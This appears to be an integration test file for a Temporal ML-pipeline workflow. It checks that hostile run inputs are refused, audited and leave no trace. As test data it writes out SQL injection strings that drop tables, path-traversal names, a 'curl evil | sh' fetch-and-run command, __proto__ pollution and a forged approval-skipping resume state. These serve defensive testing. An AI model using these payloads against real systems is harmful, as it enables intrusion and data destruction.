/**
 * Hostile run input: anyone who reaches the Temporal frontend can start `modelLifecycle` with any
 * JSON. An inline spec that is not a valid spec (SQL injection, a path in its name, an unknown
 * trainer, extra fields), a malformed or unknown specHash, neither of them, an input that is not an
 * object, or a made-up `resume` that would skip to the approval: each run ends with the exact refusal
 * naming the field and what to do, one audit row (`run-spec-refused`, `run-input-refused`), no stack
 * trace or database text in the message, and nothing changed in the registry or the bucket.
 */
import { randomBytes } from 'node:crypto';
import { WorkflowFailedError } from '@temporalio/client';
import { ActivityFailure, ApplicationFailure } from '@temporalio/common';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parsePipelineSpec, specHash } from '../../lifecycle/spec';
import { specKey } from '../../registry/artifactKeys';
import { shippedSpecInput, type SpecInput, specInput, uniqueSpecName } from '../specBuilder';
import { createLifecycleTestbed, type LifecycleTestbed } from '../lifecycleTestbed';
import { uniqueName } from '../helpers';
import { expectUnchanged, worldState, type WorldState } from './worldState';

let bed: LifecycleTestbed;

beforeAll(async () => {
  // Every run here is refused before ingest: a small shop is enough.
  bed = await createLifecycleTestbed('run_input', { jobs: 200, seed: 11 });
});

afterAll(async () => {
  await bed.close();
});

/** A cut-time spec as a person would paste it into the Web UI, with `overrides` laid over it. */
const draftWith = (overrides: SpecInput): SpecInput =>
  specInput({ name: uniqueSpecName('cut-time'), ...overrides }, shippedSpecInput('cut-time'));

/** The keys under `specs/` (shared with other test files, which add their own meanwhile). */
async function specKeys(): Promise<Set<string>> {
  return new Set((await bed.store.list('specs/')).map((object) => object.key));
}

/** The specs stored since `before` whose bytes mention `marker`: what this test's run stored. */
async function specsStoredWith(before: Set<string>, marker: string): Promise<string[]> {
  const added = [...(await specKeys())].filter((key) => !before.has(key));
  const ours: string[] = [];
  for (const key of added) {
    const text = Buffer.from(await bed.store.get(key)).toString('utf8');
    if (text.includes(marker)) ours.push(key);
  }
  return ours;
}

/**
 * The failure a refused run ended with: the ApplicationFailure of its first activity, or the
 * workflow's own for an input it refuses before any activity.
 */
async function refusalOf(result: Promise<unknown>): Promise<ApplicationFailure> {
  const error = await result.then(
    () => undefined,
    (failure: unknown) => failure,
  );
  expect(error).toBeInstanceOf(WorkflowFailedError);
  const cause = (error as WorkflowFailedError).cause;
  const failure = cause instanceof ActivityFailure ? cause.cause : cause;
  expect(failure).toBeInstanceOf(ApplicationFailure);
  return failure as ApplicationFailure;
}

interface Refusal {
  type: string | undefined;
  message: string;
  workflowId: string;
}

/**
 * Starts `modelLifecycle` with `input` straight through the frontend (as the Web UI or any client
 * can) and returns how the run ended. Asserts that the registry tables, the objects under
 * `prefixes` and the stored specs mentioning `marker` did not change, beyond one audit row.
 */
async function refusedRun(input: unknown, marker: string, prefixes: string[] = []): Promise<Refusal> {
  const before: WorldState = await worldState(bed.db.pool, bed.store, prefixes);
  const specsBefore = await specKeys();
  const workflowId = uniqueName('hostile-run');
  const handle = await bed.client.workflow.start('modelLifecycle', {
    taskQueue: bed.taskQueue,
    workflowId,
    args: [input],
  });
  const failure = await refusalOf(handle.result());
  expect(failure.nonRetryable).toBe(true);
  expectUnchanged(before, await worldState(bed.db.pool, bed.store, prefixes), 1);
  expect(await specsStoredWith(specsBefore, marker)).toEqual([]);
  // The person sees the refusal, not the product's insides.
  expect(failure.message).not.toMatch(/\n\s+at |\.ts:\d+|\.js:\d+/);
  expect(failure.message).not.toMatch(/SQLSTATE|postgres(ql)?:\/\/|relation "|syntax error at|password/i);
  return { type: failure.type ?? undefined, message: failure.message, workflowId };
}

/** The refusal's audit rows (`action`), as the log keeps them. */
async function auditedRefusals(workflowId: string, action: string) {
  const { rows } = await bed.db.pool.query<{
    model: string | null;
    details: { stage: string; type: string; message: string };
  }>(`SELECT model, details FROM registry.audit_log WHERE action = $2 AND actor = $1 ORDER BY id`, [
    `run:${workflowId}`,
    action,
  ]);
  return rows;
}

/** Asserts that the run ended with exactly `type` and `message`, audited once with both. */
async function expectRefused(refusal: Refusal, type: string, message: string): Promise<void> {
  expect(refusal.type).toBe(type);
  expect(refusal.message).toBe(message);
  expect(await auditedRefusals(refusal.workflowId, 'run-spec-refused')).toEqual([
    { model: null, details: { stage: 'resolve-spec', type, message } },
  ]);
}

/** Asserts that the workflow refused the input itself, before any activity, audited once. */
async function expectInputRefused(refusal: Refusal, message: string): Promise<void> {
  expect(refusal.type).toBe('SourceError');
  expect(refusal.message).toBe(message);
  expect(await auditedRefusals(refusal.workflowId, 'run-input-refused')).toEqual([
    { model: null, details: { stage: 'start', message } },
  ]);
}

const run = (fields: Record<string, unknown>) => ({
  startedBy: 'mallory',
  approvalDeadlineMs: 60_000,
  ...fields,
});
const prefixesOf = (name: string) => [`snapshots/${name}/`, `models/${name}/`];
const ALLOWED_TOP_KEYS =
  'name, description, task, source, target, forecast, features, derived, history, segments, timeColumn, split, trainer, tuning, gates, approval, deploy, monitoring, outcomes, scoring';

describe('a run started with a hostile inline spec is refused before anything is stored', () => {
  it('SQL that would drop the audit log after its SELECT', async () => {
    const draft = draftWith({
      source: { kind: 'sql', query: 'SELECT 1 AS a; DROP TABLE registry.audit_log; --' },
    });
    const name = String(draft.name);
    const refusal = await refusedRun(run({ spec: draft }), name, prefixesOf(name));
    await expectRefused(
      refusal,
      'SourceError',
      'Invalid pipeline spec:\nsource.query: must be a single statement (no ";" between statements)',
    );
  });

  it('a name that climbs out of its folder', async () => {
    const name = `../../specs/${randomBytes(4).toString('hex')}`;
    const refusal = await refusedRun(run({ spec: draftWith({ name }) }), name, prefixesOf(name));
    await expectRefused(
      refusal,
      'SourceError',
      'Invalid pipeline spec:\nname: must be kebab-case: lower-case letters and digits joined by "-"',
    );
  });

  it('an unknown trainer kind', async () => {
    const draft = draftWith({ trainer: { kind: 'shell', params: { command: 'curl evil | sh' } } });
    const name = String(draft.name);
    const refusal = await refusedRun(run({ spec: draft }), name, prefixesOf(name));
    await expectRefused(
      refusal,
      'SourceError',
      'Invalid pipeline spec:\ntrainer.kind: must be one of: "gbdt", "linear", "baseline"',
    );
  });

  it('extra fields, at the top, under __proto__ and inside the trainer', async () => {
    const draft = draftWith({ evil: { isAdmin: true } });
    // `__proto__` as an own key, the way JSON.parse (and so the Temporal frontend's JSON) makes it.
    Object.defineProperty(draft, '__proto__', { value: { isAdmin: true }, enumerable: true });
    draft.trainer = { ...(draft.trainer as object), command: 'curl evil | sh' };
    const name = String(draft.name);
    const refusal = await refusedRun(run({ spec: draft }), name, prefixesOf(name));
    await expectRefused(
      refusal,
      'SourceError',
      'Invalid pipeline spec:\n' +
        `trainer.command: unknown key; allowed keys: kind, params\n` +
        `evil: unknown key; allowed keys: ${ALLOWED_TOP_KEYS}\n` +
        `__proto__: unknown key; allowed keys: ${ALLOWED_TOP_KEYS}`,
    );
  });

  it('thousands of unknown keys, the first a megabyte long: the message stays short', async () => {
    const draft = draftWith({});
    draft[`x${'y'.repeat(1_000_000)}`] = true;
    for (let index = 0; index < 5000; index += 1) draft[`k${index}`] = index;
    const name = String(draft.name);
    const refusal = await refusedRun(run({ spec: draft }), name, prefixesOf(name));
    expect(refusal.message.split('\n')).toEqual([
      'Invalid pipeline spec:',
      // The long key's line, cut at 500 characters.
      `x${'y'.repeat(499)}...`,
      ...Array.from(
        { length: 49 },
        (_, index) => `k${index}: unknown key; allowed keys: ${ALLOWED_TOP_KEYS}`,
      ),
      '... and 4951 more',
    ]);
    await expectRefused(refusal, 'SourceError', refusal.message);
  });

  it('a spec that is not an object', async () => {
    const marker = `DROP TABLE ${randomBytes(4).toString('hex')}`;
    const refusal = await refusedRun(run({ spec: marker }), marker);
    await expectRefused(
      refusal,
      'SourceError',
      'Invalid pipeline spec:\n(spec): must be an object, not string',
    );
  });

  it('a valid spec with a specHash that is not its hash: refused, and the spec is not stored', async () => {
    const draft = draftWith({});
    const name = String(draft.name);
    const real = specHash(parsePipelineSpec(draft));
    const claimed = 'e'.repeat(64);
    const refusal = await refusedRun(run({ spec: draft, specHash: claimed }), name, prefixesOf(name));
    await expectRefused(
      refusal,
      'TamperedArtifactError',
      `the run's specHash "${claimed}" is not the hash of the spec it carries (${real}); start it again without specHash, or with the right one`,
    );
    await expect(bed.store.get(specKey(real))).rejects.toThrow();
  });
});

describe('a run started with a hostile specHash is refused and reads nothing else', () => {
  const malformed = (shown: string) =>
    'Invalid pipeline spec:\n' +
    `specHash: ${shown} is not a SHA-256 in hex (64 characters 0-9a-f); start the run with \`kerf run\`, ` +
    'which stores the spec and passes its hash, or give the spec JSON as `spec`';

  const cases: { title: string; specHash: unknown; shown: string }[] = [
    { title: 'a path out of specs/', specHash: '../../models/x/v1/spec', shown: '"../../models/x/v1/spec"' },
    {
      title: 'a hash with a path after it',
      specHash: `${'a'.repeat(64)}/../../registry`,
      shown: `"${'a'.repeat(64)}/../../registry"`,
    },
    { title: 'upper-case hex', specHash: 'A'.repeat(64), shown: `"${'A'.repeat(64)}"` },
    { title: 'an empty string', specHash: '', shown: '""' },
    { title: 'a number', specHash: 42, shown: '"42"' },
    { title: 'an object', specHash: { $ne: null }, shown: '"[object Object]"' },
    {
      title: 'a megabyte of text, shown cut short',
      specHash: `'; DROP TABLE registry.models; --${'x'.repeat(1_000_000)}`,
      // The first 80 characters: the 33 of the injection and 47 of the padding.
      shown: JSON.stringify(`'; DROP TABLE registry.models; --${'x'.repeat(47)}`),
    },
  ];
  for (const { title, specHash: hash, shown } of cases) {
    it(title, async () => {
      const refusal = await refusedRun(run({ specHash: hash }), 'never-stored');
      await expectRefused(refusal, 'SourceError', malformed(shown));
    });
  }

  it('a well-formed hash that names no stored spec', async () => {
    const hash = randomBytes(32).toString('hex');
    const refusal = await refusedRun(run({ specHash: hash }), hash);
    await expectRefused(
      refusal,
      'SourceError',
      `Invalid pipeline spec:\nspecHash: no spec ${hash} in the bucket (specs/${hash}.json); start the run with ` +
        '`kerf run`, which stores it, and check that the worker uses the same S3_BUCKET',
    );
  });

  it('neither a spec nor a specHash', async () => {
    const refusal = await refusedRun(run({ pipeline: '../../etc' }), 'never-stored');
    await expectRefused(
      refusal,
      'SourceError',
      'the run carries neither a spec nor a specHash: start it with `kerf run <spec file>`, or give the spec JSON as `spec`',
    );
  });
});

describe('a run whose input is not a run input is refused before any activity', () => {
  const NOT_AN_OBJECT =
    'the run input must be a JSON object with specHash (or spec), startedBy and approvalDeadlineMs: ' +
    'start the run with `kerf run <spec file>`';
  const inputs: { title: string; input: unknown }[] = [
    { title: 'null', input: null },
    { title: 'a string', input: '{"specHash": "../../etc"}' },
    { title: 'an array', input: [{ specHash: 'a'.repeat(64) }] },
  ];
  for (const { title, input } of inputs) {
    it(`an input that is ${title}`, async () => {
      const refusal = await refusedRun(input, 'never-stored');
      await expectInputRefused(refusal, NOT_AN_OBJECT);
    });
  }

  const fieldCases: { title: string; fields: Record<string, unknown>; message: string }[] = [
    {
      title: 'a startedBy that is not a name',
      fields: { startedBy: { name: 'shop-manager' } },
      message:
        'startedBy: give the name of the person or service that starts the run (text, 1 to 200 characters)',
    },
    {
      title: 'a negative approval deadline',
      fields: { approvalDeadlineMs: -1 },
      message:
        "approvalDeadlineMs: give a positive number (at most 31622400000), or leave it out for the spec's default",
    },
    {
      title: 'a heartbeat timeout that is not a number',
      fields: { trainingHeartbeatSeconds: 'NaN' },
      message:
        "trainingHeartbeatSeconds: give a positive number (at most 31622400000), or leave it out for the spec's default",
    },
    {
      title: 'a heavy task queue with a control character',
      fields: { heavyTaskQueue: 'kerf-heavy\n' },
      message:
        'heavyTaskQueue: give a task queue name (text without control characters, at most 1000), or leave it out for the default',
    },
  ];
  for (const { title, fields, message } of fieldCases) {
    it(title, async () => {
      const draft = draftWith({});
      const name = String(draft.name);
      const refusal = await refusedRun(run({ spec: draft, ...fields }), name, prefixesOf(name));
      await expectInputRefused(refusal, message);
    });
  }

  it('a made-up resume that would skip training and the gates and wait for approval', async () => {
    const draft = draftWith({});
    const name = String(draft.name);
    const deadlineAt = Date.now() + 3_600_000;
    // The state a run hands on when it continues as new, forged: version 1, every gate passed.
    const forged = {
      status: {
        pipeline: name,
        stage: 'awaiting-approval',
        startedBy: 'mallory',
        version: 1,
        verdicts: ['quality', 'fairness', 'security'].map((gate) => ({ gate, passed: true, failed: [] })),
        metrics: { rmse: 0.001 },
        warnings: [],
        history: [],
        approval: {
          approvers: ['shop-manager'],
          deadlineAt: new Date(deadlineAt).toISOString(),
          refused: [],
        },
      },
      deadlineAt,
      reminderAt: deadlineAt,
      reminded: true,
      pending: [],
    };
    const refusal = await refusedRun(run({ spec: draft, resume: forged }), name, prefixesOf(name));
    await expectInputRefused(
      refusal,
      'resume: only a run that continued as new while waiting for approval carries it; start the run without resume',
    );
  });
});
